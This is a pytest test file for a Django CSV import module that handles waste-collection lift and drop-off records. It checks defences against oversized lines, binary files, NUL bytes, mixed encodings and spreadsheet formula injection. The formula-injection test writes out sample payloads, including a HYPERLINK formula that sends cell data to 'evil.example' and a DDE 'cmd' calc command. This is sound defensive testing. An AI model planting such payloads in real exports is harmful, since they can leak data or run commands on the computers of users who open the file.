"""What every import shares (importers/reading.py, the report): what a careful attacker or
a tired agent may send."""

import csv
import io

import pytest
from django.core.files.base import ContentFile

from levee.collection.importers import dropoff_import, lift_import, report_csv
from levee.collection.importers.reading import MAX_LINE_BYTES
from levee.collection.models import DropOff, ImportStatus, Lift

LIFTS = "horodatage;puce;cuve;flux;poids_kg;vehicule\n"
DROPOFFS = "horodatage;type;code_usager;lieu\n"


class Generated:
    """A file read in chunks made on the fly: `size` bytes of `filler` between a head and
    a tail, never held whole in memory by the test."""

    def __init__(self, head: bytes, filler: bytes, size: int, tail: bytes):
        self.parts = [head, (filler, size), tail]
        self.size = len(head) + size + len(tail)

    def seek(self, *args):
        pass

    def read(self, n):
        while self.parts:
            part = self.parts[0]
            if isinstance(part, tuple):
                filler, left = part
                if left <= 0:
                    self.parts.pop(0)
                    continue
                take = min(n, left)
                self.parts[0] = (filler, left - take)
                return filler * take
            self.parts.pop(0)
            if part:
                return part
        return b""


def cells(report: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(report), delimiter=";") for cell in row]


def test_a_huge_line_is_rejected_alone_without_being_kept(ccfi, bins):
    authority, _ = ccfi
    file = Generated(
        (LIFTS + "2024-03-05 07:12;E0040001;;;12;\n2024-03-06 07:12;").encode(),
        b"x",
        30 * 1024 * 1024,  # one line of 30 MB, no end of line for a long while
        b"\n2024-03-07 07:12;E0040001;;;12;\n",
    )
    batch = lift_import(authority=authority, file=file, filename="long.csv")
    assert (batch.status, batch.rows_total, batch.rows_imported) == (ImportStatus.DONE, 3, 2)
    assert batch.rejected_report.splitlines()[1] == (
        f"3;ligne trop longue (plus de {MAX_LINE_BYTES} caractères)"
    )


def test_a_long_line_within_a_read_is_rejected_the_same_way(ccfi, bins):
    authority, _ = ccfi
    text = LIFTS + "2024-03-05 07:12;E0040001;;;12;" + "x" * 5000 + "\n"
    batch = lift_import(authority=authority, file=ContentFile(text.encode()), filename="a.csv")
    assert batch.rejected_report.splitlines()[1].startswith("2;ligne trop longue")


def test_a_huge_header_refuses_the_file(ccfi, bins):
    authority, _ = ccfi
    file = Generated(b"horodatage;", b"y", 5 * 1024 * 1024, b"\n")
    batch = lift_import(authority=authority, file=file, filename="a.csv")
    assert batch.status == ImportStatus.FAILED
    assert "sa première ligne dépasse 4096 caractères" in batch.message


def test_windows_and_latin1_accents_are_read_whatever_the_line(ccfi):
    authority, _ = ccfi
    data = (
        DROPOFFS.encode()
        + "2024-03-05 10:12;déchèterie;00001;Déchèterie de l’Œuvre\n".encode("cp1252")
        + "2024-03-06 10:12;déchèterie;00001;Déchèterie de Méteren\n".encode("latin-1")
        + "2024-03-07 10:12;déchèterie;00001;Déchèterie d’Hazebrouck\n".encode()
    )
    batch = dropoff_import(authority=authority, file=ContentFile(data), filename="a.csv")
    assert batch.rows_imported == 3
    assert set(DropOff.objects.values_list("site", flat=True)) == {
        "Déchèterie d’Hazebrouck",
        "Déchèterie de l’Œuvre",
        "Déchèterie de Méteren",
    }


def test_the_report_never_starts_a_cell_with_a_formula(ccfi, bins):
    authority, _ = ccfi
    report = report_csv(
        [(2, '=HYPERLINK("http://evil.example/?"&A1)'), (3, "+1"), (4, "-1"), (5, "@SUM(A1)")]
    )
    assert report.splitlines()[1:] == [
        '2;"\'=HYPERLINK(""http://evil.example/?""&A1)"',
        "3;'+1",
        "4;'-1",
        "5;'@SUM(A1)",
    ]
    evil = ["=cmd|' /C calc'!A0", "+33 6 12", "-2+3", "@SUM(1;2)", "\t=1"]
    text = LIFTS + "".join(f"{v};{v};{v};{v};{v};{v}\n" for v in evil)
    batch = lift_import(authority=authority, file=ContentFile(text.encode()), filename="a.csv")
    assert batch.rows_rejected == len(evil)
    assert not [c for c in cells(batch.rejected_report) if c[:1] in ("=", "+", "-", "@", "\t")]


def test_a_refused_file_leaves_a_one_line_report(ccfi, bins):
    authority, _ = ccfi
    batch = lift_import(
        authority=authority, file=ContentFile(b"date;poids\n1;2\n"), filename="a.csv"
    )
    assert batch.status == ImportStatus.FAILED
    assert cells(batch.rejected_report)[:3] == ["ligne", "motif", "1"]
    assert "colonnes manquantes : horodatage, puce, cuve, flux, poids_kg, vehicule" in (
        batch.rejected_report
    )
    assert not Lift.objects.exists()


@pytest.mark.parametrize(
    "content",
    [
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01",  # a JPEG
        b"\x1f\x8b\x08\x00\x00\x00\x00\x00",  # a gzip
        bytes(range(1, 32)) * 50,  # control characters without a NUL
    ],
)
def test_a_binary_file_is_refused(ccfi, bins, content):
    authority, _ = ccfi
    batch = lift_import(authority=authority, file=ContentFile(content), filename="a.csv")
    assert batch.status == ImportStatus.FAILED
    assert "fichier binaire" in batch.message


def test_a_nul_past_the_start_rejects_its_line_only(ccfi, bins):
    authority, _ = ccfi
    good = "2024-03-05 07:12;E0040001;;;12;\n" * 300  # past the first 8 KB, checked whole
    text = LIFTS + good + "2024-03-06 07:12;E00\x0040001;;;12;\n"
    batch = lift_import(authority=authority, file=ContentFile(text.encode()), filename="a.csv")
    assert (batch.rows_total, batch.rows_imported, batch.rows_rejected) == (301, 1, 1)
    assert batch.rejected_report.splitlines()[1] == "302;ligne illisible (caractère nul)"


def test_a_pdf_with_a_text_start_is_refused_as_binary_not_for_its_header(ccfi, bins):
    authority, _ = ccfi
    pdf = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    batch = lift_import(authority=authority, file=ContentFile(pdf), filename="levees.csv")
    assert batch.status == ImportStatus.FAILED
    assert batch.message.startswith(
        "Ce fichier est un fichier binaire (PDF ?) et non un fichier CSV"
    )
    assert "en-tête" not in batch.message
